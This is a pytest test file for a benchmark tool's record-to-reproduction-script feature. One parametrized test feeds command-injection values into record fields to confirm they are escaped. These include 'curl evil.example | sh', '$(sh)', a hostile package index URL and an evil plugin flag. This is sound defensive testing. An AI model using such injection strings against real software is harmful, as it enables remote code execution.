from __future__ import annotations

import shlex
from typing import Any

import pytest

from tests.records.some_intensities import reaction_identity
from tests.records.some_records import some_environment, some_identity, some_record
from tta_bench.config.resolve import resolve
from tta_bench.experiments.base import Experiment
from tta_bench.records.identity import DatasetRef, WeightsRef
from tta_bench.records.redact import without_root
from tta_bench.records.reproduce import run_words, script
from tta_bench.records.schema import Plugin, Record


def record_of(experiment: Experiment) -> Record:
    """The record that a run of an experiment would write, as far as its command goes."""
    identity = some_identity(
        backbone=experiment.backbone.name,
        dataset=DatasetRef(name=experiment.dataset.name, manifest_sha256=None, splits=("1", "2", "3")),
        split=str(experiment.split),
        seed=experiment.seed,
        tier=experiment.tier,
        control=experiment.eval.control,
        precision="fp32",
    )
    return some_record(
        identity=identity, given=tuple(map(without_root, experiment.arguments)), resolved=experiment.settings()
    )


@pytest.mark.parametrize(
    "words",
    [
        ["protocol=ucf101_ft"],
        ["protocol=ucf101_ft", "backbone=timm/resnet18", "seed=3", "phase=test", "eval.control=reversed"],
        ["protocol=ucf101_ft", "train.steps=7", "eval.segments=1", "limit=9", "runtime.workers=1", "clip.frames=4"],
    ],
)
def test_the_words_lead_to_the_same_experiment(words: list[str]) -> None:
    (experiment,) = resolve(words)
    (again,) = resolve(run_words(record_of(experiment)))
    same = {"arguments", "phase", "precision"}
    assert again.model_dump(exclude=same) == experiment.model_dump(exclude=same)
    assert again.phase == "all"


def test_one_split_and_seed_of_many_and_a_folder_of_ones_own() -> None:
    given = ["protocol=ucf101_ft", "data.root=/data", "split=1,2", "seed=0,1", "backbone=resnet50", "train.epochs=5"]
    wanted = resolve(given)[3]
    record = record_of(wanted)
    (again,) = resolve(run_words(record, ["data.root=/data"]))
    assert (again.split, again.seed, str(again.root)) == (2, 1, "/data")
    assert again.settings() == wanted.settings()
    assert (again.track, again.standard) == (wanted.track, wanted.standard) == ("tuned", True)
    assert "data.root" not in " ".join(run_words(record))
    assert script(record).splitlines()[-1].endswith(" data.root=DIR")
    assert script(record, ["data.root=/my data"]).splitlines()[-1].endswith(" 'data.root=/my data'")


def test_a_protocol_with_parts_names_its_own() -> None:
    words = ["protocol=abaw_eri", "backbone=resnet50", "seed=2", "train.steps=5", "tier=sample"]
    (experiment,) = resolve(words)
    identity = reaction_identity(
        backbone=experiment.backbone.name,
        dataset=DatasetRef(name=experiment.dataset.name, manifest_sha256=None, splits=("val",)),
        seed=experiment.seed,
        tier=experiment.tier,
    )
    (again,) = resolve(run_words(some_record(identity=identity, given=tuple(words), resolved=experiment.settings())))
    same = {"arguments", "phase", "precision"}
    assert again.model_dump(exclude=same) == experiment.model_dump(exclude=same)


def test_the_script_says_what_words_cannot() -> None:
    environment = some_environment().model_copy(
        update={"commit": "a" * 40, "dirty": True, "plugins": (Plugin(name="mine", version="2", sha256="b" * 64),)}
    )
    weights = WeightsRef(name="k400.pth", sha256="c" * 64, pretraining=None)
    text = script(some_record(identity=some_identity(weights=weights), environment=environment))
    comments = [line for line in text.splitlines() if line.startswith("# ")]
    assert all(
        word in " ".join(comments) for word in ("c" * 64, "had been changed", "Some Processor", "plug-in mine 2")
    )
    assert f"git checkout {'a' * 40}\npip install torch==2.15.0\ntta-bench run protocol=ucf101_ft" in text
    assert " weights=k400.pth " in text


def test_an_installed_version_takes_the_place_of_a_commit() -> None:
    assert "pip install tta-bench==0.1.0 torch==2.15.0" in script(some_record())
    assert "git" not in script(some_record())


def test_a_scored_file_is_scored_again() -> None:
    given = ("protocol=ucf101_ft", "predictions=my net.csv", "data.root=<data.root>")
    record = some_record(origin="scored", environment=None, given=given)
    assert script(record) == "tta-bench eval protocol=ucf101_ft 'predictions=my net.csv'"


@pytest.mark.parametrize(
    "changes",
    [
        {"packages": {"--index-url=http://evil/simple ": "1"}},
        {"packages": {"torch": "2 --pre; sh"}},
        {"suite_version": "1 $(sh)"},
        {"device": "AMD\ncurl evil.example | sh\n#"},
        {"plugins": (Plugin(name="a.py", version="1\nsh", sha256=None),)},
    ],
)
def test_nothing_of_a_record_becomes_shell(changes: dict[str, Any]) -> None:
    environment = some_environment().model_copy(update=changes)
    record = some_record(environment=environment, given=("protocol=ucf101_ft", "--plugin=evil.py", "x;sh", "a b=$(sh)"))
    lines = script(record).splitlines()
    commands = [shlex.split(line) for line in lines if not line.startswith("#")]
    assert [words[0] for words in commands] == ["pip", "tta-bench"]
    assert not [word for word in commands[0][2:] if word.startswith("-") or " " in word]
    assert not any(word.startswith("--plugin=") or "sh" in word.split("=")[0].split(";") for word in commands[1])


def test_plugin_files_are_loaded_again() -> None:
    plugins = (
        Plugin(name="my_net.py", version=None, sha256="a" * 64),
        Plugin(name="package", version="1", sha256=None),
    )
    record = some_record(environment=some_environment().model_copy(update={"plugins": plugins}))
    assert script(record).splitlines()[-1].endswith(" --plugin my_net.py")
